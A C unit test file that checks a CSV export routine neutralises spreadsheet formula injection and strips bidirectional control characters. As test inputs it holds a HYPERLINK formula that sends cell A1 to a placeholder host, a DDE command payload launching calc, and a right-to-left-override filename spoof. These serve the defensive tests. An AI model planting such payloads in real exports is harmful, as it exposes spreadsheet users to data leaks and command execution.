/* Unit tests: CSV cells a spreadsheet opens (issue 9.3). */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "gateway/csv.h"
#include "tests/unit/unit.h"

static void
cell_is(const char *in, const char *want)
{
	char *c = csv_cell(in);
	CHECK_STR(c, want);
	free(c);
}

static void
test_formulas_get_an_apostrophe(void)
{
	cell_is("=HYPERLINK(\"http://x\"&A1,\"Bấm vào\")", "'=HYPERLINK(\"http://x\"&A1,\"Bấm vào\")");
	cell_is("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0");
	cell_is("-2+3", "'-2+3");
	cell_is("@SUM(1)", "'@SUM(1)");
	cell_is("   =1+2", "'   =1+2");
	cell_is("\t=1+2", "' =1+2");            /* the tab is a control: a space */
	cell_is("\r\n=1", "' \n=1");
	cell_is("\xef\xbc\x9d" "1+1", "'\xef\xbc\x9d" "1+1");   /* full-width = */
	cell_is("Có người bán ma túy", "Có người bán ma túy");
	cell_is("2+3=5", "2+3=5");
	cell_is("", "");
	cell_is(NULL, "");
}

static void
test_bidi_controls_are_removed(void)
{
	cell_is("\xe2\x80\xae" "exe.gnp", "exe.gnp");          /* U+202E */
	cell_is("a\xe2\x81\xa6" "b\xe2\x81\xa9" "c", "abc");   /* U+2066, U+2069 */
	cell_is("\xe2\x80\x8f" "=1", "'=1");                   /* an RLM before a formula */
}

static void
test_quoting(void)
{
	char buf[256] = "";
	FILE *f = fmemopen(buf, sizeof buf, "w");
	csv_put(f, "a,b", 0);
	csv_put(f, "say \"hi\"", 0);
	csv_put(f, "=x", 1);
	fclose(f);
	CHECK_STR(buf, "\"a,b\",\"say \"\"hi\"\"\",'=x\r\n");
}

UNIT_MAIN(UNIT(test_formulas_get_an_apostrophe), UNIT(test_bidi_controls_are_removed),
    UNIT(test_quoting))
